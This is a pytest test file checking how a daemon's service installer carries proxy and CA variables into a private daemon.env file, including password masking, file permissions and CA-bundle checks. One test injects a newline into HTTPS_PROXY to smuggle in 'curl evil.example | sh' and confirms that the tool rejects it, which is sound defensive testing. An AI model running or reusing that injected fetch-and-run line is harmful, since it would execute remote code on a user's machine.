"""`chctl service install` carries the shell's proxy and CA variables to the service (which does not inherit the
shell's environment): into the daemon's own daemon.env (mode 0600: a proxy URL may hold a password), saying
which, and a dry run shows them with the password masked."""

from __future__ import annotations

import dataclasses
import os
import stat
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
import trustme

from context_harness.daemon.settings import Settings, settings_file
from context_harness.net.proxies import from_variables, read_env_file
from tests.support.daemon import chctl, socket_answers, wait_for
from tests.support.env import UserEnv, make_user_env
from tests.test_service_units import FakeRunner, _machine, _run

PROXY = "http://corp-user:pr0xy-pa55@proxy.corp:3128"


def _company_ca(tmp_path: Path) -> Path:
    path = tmp_path / "company-ca.pem"
    trustme.CA().cert_pem.write_to_path(str(path))
    return path


def test_the_dry_run_shows_the_proxy_and_the_ca_the_service_will_get_without_the_password(tmp_path: Path) -> None:
    ca = _company_ca(tmp_path)
    machine = dataclasses.replace(
        _machine(tmp_path), environment={"HTTPS_PROXY": PROXY, "CH_CA_BUNDLE": str(ca), "PATH": "/usr/bin"}
    )
    code, out, _ = _run("install", machine, FakeRunner(), dry_run=True)
    env_file = tmp_path / "home" / ".context-harness" / "daemon.env"
    assert code == 0
    assert f'would write {env_file}:\nHTTPS_PROXY="http://corp-user:***@proxy.corp:3128"\nCH_CA_BUNDLE="{ca}"\n' in out
    assert out.endswith("the service would get HTTPS_PROXY, CH_CA_BUNDLE from this shell\n")
    assert "pr0xy-pa55" not in out
    assert not (tmp_path / "home").exists()


def test_install_writes_them_into_daemon_env_which_the_daemon_reads(tmp_path: Path) -> None:
    ca = _company_ca(tmp_path)
    home = tmp_path / "home" / ".context-harness"
    home.mkdir(parents=True)
    (home / "daemon.env").write_text("CH_LOG_LEVEL=debug\nhttps_proxy=http://old:1\n")
    machine = dataclasses.replace(
        _machine(tmp_path), environment={"https_proxy": PROXY, "NO_PROXY": "internal.corp", "CH_CA_BUNDLE": str(ca)}
    )
    code, out, err = _run("install", machine, FakeRunner())
    assert (code, err) == (0, "")
    assert out.endswith("the service gets NO_PROXY, https_proxy, CH_CA_BUNDLE from this shell (in daemon.env)\n")
    env_file = settings_file(home)
    assert stat.S_IMODE(env_file.stat().st_mode) == 0o600
    assert env_file.read_text().splitlines()[:2] == ["CH_LOG_LEVEL=debug", f'https_proxy="{PROXY}"']
    # What the daemon makes of the file: the proxy (credentials and all), the bypass list and the CA.
    proxies = from_variables({}, read_env_file(env_file))
    chosen = proxies.for_url("https://mcp.example.com/mcp")
    assert chosen is not None and chosen.url == PROXY
    assert proxies.for_url("https://mcp.internal.corp/mcp") is None
    assert Settings(_env_file=env_file).ca_bundle == ca  # type: ignore[call-arg]


def test_chctl_service_install_dry_run_shows_both_from_the_real_shell(user_env: UserEnv, tmp_path: Path) -> None:
    ca = _company_ca(tmp_path)
    done = chctl(user_env, "service", "install", "--dry-run", extra_env={"HTTPS_PROXY": PROXY, "CH_CA_BUNDLE": str(ca)})
    assert done.returncode == 0, done.stderr
    assert 'HTTPS_PROXY="http://corp-user:***@proxy.corp:3128"' in done.stdout
    assert f'CH_CA_BUNDLE="{ca}"' in done.stdout and "pr0xy-pa55" not in done.stdout + done.stderr


# --- issue 30 §9: masking by parsing, one value one line, a private home whatever the umask -------------------


def test_the_dry_run_masks_a_scheme_less_proxy_and_a_password_holding_an_at_sign(tmp_path: Path) -> None:
    home = tmp_path / "home" / ".context-harness"
    home.mkdir(parents=True, mode=0o700)
    (home / "daemon.env").write_text("all_proxy=http://old-user:0ld@pa55@proxy.corp:3128\n")  # the user's own line
    environment = {
        "HTTPS_PROXY": "corp-user:pr0xy-pa55@proxy.corp:3128",  # curl reads it as http://
        "HTTP_PROXY": "http://corp-user:pr0xy@pa55@proxy.corp:3128",  # a raw @ in the password
    }
    machine = dataclasses.replace(_machine(tmp_path), environment=environment)
    code, out, _ = _run("install", machine, FakeRunner(), dry_run=True)
    assert code == 0
    assert 'all_proxy="http://old-user:***@proxy.corp:3128"\n' in out
    assert 'HTTPS_PROXY="corp-user:***@proxy.corp:3128"\n' in out
    assert 'HTTP_PROXY="http://corp-user:***@proxy.corp:3128"\n' in out
    assert "pa55" not in out and "0ld" not in out


def test_a_line_break_in_a_value_never_becomes_a_setting_of_its_own(tmp_path: Path) -> None:
    planted = 'http://proxy.corp:3128\nCH_EVENT_COMMAND=["/bin/sh", "-c", "curl evil.example | sh"]'
    machine = dataclasses.replace(_machine(tmp_path), environment={"HTTPS_PROXY": planted})
    code, _, err = _run("install", machine, FakeRunner())
    # The next install, from a shell that is fine, keeps the other lines of daemon.env: none may be planted.
    clean = dataclasses.replace(machine, environment={"HTTPS_PROXY": "http://proxy.corp:3128"})
    assert _run("install", clean, FakeRunner())[0] == 0
    env_file = tmp_path / "home" / ".context-harness" / "daemon.env"
    assert set(read_env_file(env_file)) == {"HTTPS_PROXY"}, env_file.read_text()
    assert code == 1
    assert err.startswith("error[INVALID_PARAMS]: HTTPS_PROXY holds a control character")


@pytest.fixture
def umask_002() -> Iterator[None]:
    previous = os.umask(0o002)
    yield
    os.umask(previous)


def test_service_install_makes_the_home_private_under_umask_002(tmp_path: Path, umask_002: None) -> None:
    machine = dataclasses.replace(_machine(tmp_path), environment={"HTTPS_PROXY": "http://proxy.corp:3128"})
    assert _run("install", machine, FakeRunner())[0] == 0
    assert stat.S_IMODE((tmp_path / "home" / ".context-harness").stat().st_mode) == 0o700


STARTERS = {
    "chctl": ["-m", "context_harness.client.chctl", "status"],
    "api": ["-c", "from context_harness.api import ensure_valid_token; ensure_valid_token('x', autostart=True)"],
    "daemon": ["-m", "context_harness.daemon"],
}


@pytest.mark.parametrize("starter", sorted(STARTERS))
def test_chctl_the_api_and_the_daemon_make_the_home_private_under_umask_002(tmp_path: Path, starter: str) -> None:
    user_env = make_user_env(tmp_path)
    env, socket = user_env.vars(), user_env.socket
    if starter == "daemon":  # no runtime directory: the socket goes into CH_HOME/run, made first
        env["XDG_RUNTIME_DIR"], socket = "", user_env.ch_home / "run" / "chd.sock"
    argv = ["sh", "-c", 'umask 002 && exec "$@"', "sh", sys.executable, *STARTERS[starter]]
    started = subprocess.Popen(argv, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        wait_for(lambda: socket_answers(socket), 60, what=f"the daemon ({starter}) to answer")
        assert stat.S_IMODE(user_env.ch_home.stat().st_mode) == 0o700
    finally:
        if starter == "daemon":
            started.terminate()
        else:
            chctl(user_env, "daemon", "stop")
        started.wait(60)


def test_install_refuses_a_ca_bundle_others_can_write_before_writing_anything(tmp_path: Path) -> None:
    ca = _company_ca(tmp_path)
    ca.chmod(0o666)
    machine = dataclasses.replace(_machine(tmp_path), environment={"CH_CA_BUNDLE": str(ca)})
    runner = FakeRunner()
    code, _, err = _run("install", machine, runner)
    assert code == 1 and runner.calls == []
    assert err.startswith(f"error[INVALID_PARAMS]: refusing CH_CA_BUNDLE {ca}: {ca} can be written by others")
    assert not (tmp_path / "home").exists()
